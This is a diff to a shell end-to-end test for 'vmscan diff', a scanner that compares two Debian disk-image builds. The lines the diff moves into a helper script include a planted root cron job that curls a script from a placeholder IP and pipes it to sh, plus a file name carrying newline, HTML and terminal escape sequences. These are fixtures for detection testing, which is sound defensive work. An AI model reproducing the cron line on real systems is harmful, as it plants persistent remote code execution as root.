@@ -1,11 +1,11 @@
 #!/bin/sh
 # SPDX-License-Identifier: BSD-3-Clause
 # TAP end-to-end test of "vmscan diff": two builds of a small Debian 12
-# machine (make-planted.sh's stock tree, made from this host's packages
-# and their dpkg database), the second with one package upgraded (its
-# Version in /var/lib/dpkg/status), one packaged file changed
-# (/usr/bin/sed, whose md5sums entry no longer matches), a planted cron
-# job and a file with a hostile name.  Both are scanned on the host data
+# machine (tests/data/make-builds.sh: make-planted.sh's stock tree, made
+# from this host's packages and their dpkg database), the second with
+# one package upgraded (its Version in /var/lib/dpkg/status), one
+# packaged file changed (/usr/bin/sed, whose md5sums entry no longer
+# matches), a planted cron job and a file with a hostile name.  Both are scanned on the host data
 # path (no appliance) and compared; what the diff says is checked
 # against the two trees (os.lstat and SHA-256 of every entry) and
 # against dpkg-query on each tree's database, never against vmscan:
@@ -49,41 +49,12 @@ require_cmd mke2fs e2fsck dpkg-query sqlite3 python3 sha256sum
 setup_work
 cd "$work" || bail_out "cannot enter $work"
 
-"$here/../data/make-planted.sh" "$work" > make.log 2>&1 \
-  || { tail -n 20 make.log | diag; bail_out "make-planted.sh failed"; }
-[ -d clean/var/lib/dpkg ] || bail_out "make-planted.sh left no clean tree"
-grep -q '^Package: grep$' clean/var/lib/dpkg/status \
-  || skip_all "the host has no grep package to upgrade"
-
-# The second build.
-cp -a clean build2
-python3 - build2/var/lib/dpkg/status <<'PY'
-import sys
-p = sys.argv[1]
-s = open(p, encoding='utf-8', errors='surrogateescape').read()
-out = []
-for block in s.split('\n\n'):
-    if 'Package: grep\n' in block + '\n':
-        block = '\n'.join(l + '+vmscan1' if l.startswith('Version: ') else l
-                          for l in block.split('\n'))
-    out.append(block)
-open(p, 'w', encoding='utf-8', errors='surrogateescape').write('\n\n'.join(out))
-PY
-printf '\n# rebuilt\n' >> build2/usr/bin/sed
-cat > build2/etc/cron.d/vmscan-update <<'EOF'
-*/5 * * * * root curl -s http://203.0.113.7/u.sh | sh
-EOF
-chmod 0644 build2/etc/cron.d/vmscan-update
-mkdir -p build2/srv
-printf 'x\n' > "build2/srv/$(printf 'evil\n<b>name\033[31m')"
-
-mkfs () {
-  size=$(( $(du -sm "$1" | cut -f1) * 14 / 10 + 64 ))
-  truncate -s "${size}M" "$2"
-  mke2fs -q -F -t ext4 -L vmscan-root -d "$1" "$2" && e2fsck -fn "$2" > /dev/null
-}
-mkfs clean a.raw || bail_out "mke2fs of the first build failed"
-mkfs build2 b.raw || bail_out "mke2fs of the second build failed"
+"$here/../data/make-builds.sh" "$work" --hostile > builds.log 2>&1
+case $? in
+  0) ;;
+  3) skip_all "the host has no grep package to upgrade" ;;
+  *) diag < builds.log; bail_out "make-builds.sh failed" ;;
+esac
 
 for x in a b; do
   "$VMSCAN" -q --no-progress --data-path host -o "$x.db" "$x.raw" \
